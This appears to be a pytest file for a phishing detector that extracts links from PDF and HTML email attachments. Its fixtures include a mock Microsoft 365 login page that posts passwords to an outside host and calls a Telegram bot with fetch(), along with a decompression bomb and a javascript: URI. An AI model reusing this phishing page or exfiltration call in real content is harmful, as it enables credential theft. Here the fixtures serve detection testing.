"""Links inside attached documents (facts/documents.py): PDFs built here, read by the real pipeline."""

from __future__ import annotations

import zlib
from email.message import EmailMessage

from whence.facts.documents import MAX_INFLATED, page_links, pdf_links

from tests.test_checks_core import analyse, ids, message


def pdf(*objects: bytes) -> bytes:
    return b"%PDF-1.7\n" + b"\n".join(objects) + b"\n%%EOF\n"


def test_plain_hex_and_escaped_link_annotations_are_read_in_order() -> None:
    doc = pdf(b"1 0 obj << /Type /Annot /Subtype /Link /A << /S /URI /URI (https://pay-desk.example/a\\(1\\)) >> >>",
              b"2 0 obj << /A << /URI <68747470733a2f2f782e6578616d706c652f> >> >>",
              b"3 0 obj << /A << /URI (https://pay-desk.example/a\\(1\\)) >> >>",
              b"4 0 obj << /A << /URI (javascript:alert(1)) >> >>")
    assert pdf_links(doc) == ["https://pay-desk.example/a(1)", "https://x.example/"]


def test_links_inside_a_compressed_object_stream_are_read() -> None:
    inner = zlib.compress(b"<< /A << /S /URI /URI (https://statement-view.example/d/77) >> >>")
    doc = pdf(b"5 0 obj << /Type /ObjStm /Filter /FlateDecode /Length %d >>\nstream\n" % len(inner) + inner
              + b"\nendstream endobj")
    assert pdf_links(doc) == ["https://statement-view.example/d/77"]


def test_a_stream_that_inflates_to_gigabytes_is_cut_at_the_bound() -> None:
    bomb = zlib.compress(b"\0" * (MAX_INFLATED * 8))  # 8 MB of zeros in a few kilobytes
    doc = pdf(b"6 0 obj << /Filter /FlateDecode >>\nstream\n" + bomb + b"\nendstream endobj")
    assert pdf_links(doc) == []


def with_pdf(document: bytes, filename: str = "Statement_0.7495_BTC.pdf") -> bytes:
    msg = EmailMessage()
    msg["Received"] = ("from mail.example.org (mail.example.org [192.0.2.10]) by mx.example.jp (Postfix) "
                       "with ESMTPS id 4WyK2n; Tue, 3 Sep 2024 02:54:43 +0900")
    msg["From"] = "Billing <billing@shop-mail.example>"
    msg["To"] = "taro@example.jp"
    msg["Subject"] = "Your statement"
    msg["Date"] = "Tue, 3 Sep 2024 02:54:41 +0900"
    msg["Message-ID"] = "<1@example.org>"
    msg.set_content("Please find your statement attached.")
    msg.add_attachment(document, maintype="application", subtype="pdf", filename=filename)
    return msg.as_bytes()


def test_a_pdfs_link_is_a_link_of_the_message_and_judged_like_one() -> None:
    r = analyse(with_pdf(pdf(b"1 0 obj << /A << /URI (https://bit.ly/3FA84kV) >> >>")))
    link = next(link for link in r["links"] if link["source"] == "attachment")
    assert link["domain"] == "bit.ly" and link["text"] == "Statement_0.7495_BTC.pdf"
    assert "link.shortener" in link["findings"]
    assert "link.text_mismatch" not in ids(r)  # a file name is not a shown domain
    assert "link.elsewhere" not in ids(r)  # a shortener is neither home nor an unknown site


def test_a_statement_whose_only_link_leads_away_from_its_sender() -> None:
    r = analyse(with_pdf(pdf(b"1 0 obj << /A << /URI (https://statement-view.example/d/77) >> >>")))
    assert "link.elsewhere" in ids(r)
    r = analyse(with_pdf(pdf(b"1 0 obj << /A << /URI (https://www.shop-mail.example/account) >> >>")))
    assert "link.elsewhere" not in ids(r)


def test_a_pdfs_link_through_a_redirector_leads_on_to_where_the_click_ends() -> None:
    r = analyse(with_pdf(pdf(b"1 0 obj << /A << /URI (https://www.google.com/url?q=https://platform3355.top/1wq4W8"
                             b"&sa=D&source=editors) >> >>"), filename="Open 05701.pdf"))
    ends = [(link["source"], link["domain"], link["text"]) for link in r["links"]]
    assert ("redirect", "platform3355.top", "Open 05701.pdf") in ends
    r = analyse(with_pdf(pdf(b"1 0 obj << /A << /URI (https://www.google.com/search?q=statement) >> >>")))
    assert [link["source"] for link in r["links"]] == ["attachment"]  # a search names no place


PAGE = (b"<html><body><h1>Microsoft 365</h1><form action='https://kq7vz3.cn/p.php' method=post>"
        b"<input name=email><input type=password name=pass></form><a href='/help'>Help</a>"
        b"<script src='https://code.jquery.com/jquery.js'></script>"
        b"<script>fetch(\"https:\\/\\/api.telegram.org\\/bot123\\/sendMessage\");</script></body></html>")


def test_an_attached_pages_form_and_script_addresses_are_read_not_run() -> None:
    """Where the typed password goes (the form, a fetch), not the libraries it loads or relative links."""
    assert page_links(PAGE) == ["https://kq7vz3.cn/p.php", "https://api.telegram.org/bot123/sendMessage"]


def test_an_attached_login_page_sends_its_links_to_the_link_checks() -> None:
    r = analyse(message(sender="Microsoft 365 <no-reply@shop-mail.example>", subject="Voicemail received",
                        text="Open the attached file to listen.",
                        attachments=[(PAGE, "text", "html", "Voicemail.html")]))
    found = {(link["domain"], link["source"], link["text"]) for link in r["links"]}
    assert ("kq7vz3.cn", "attachment", "Voicemail.html") in found
    assert "attachment.html" in ids(r)
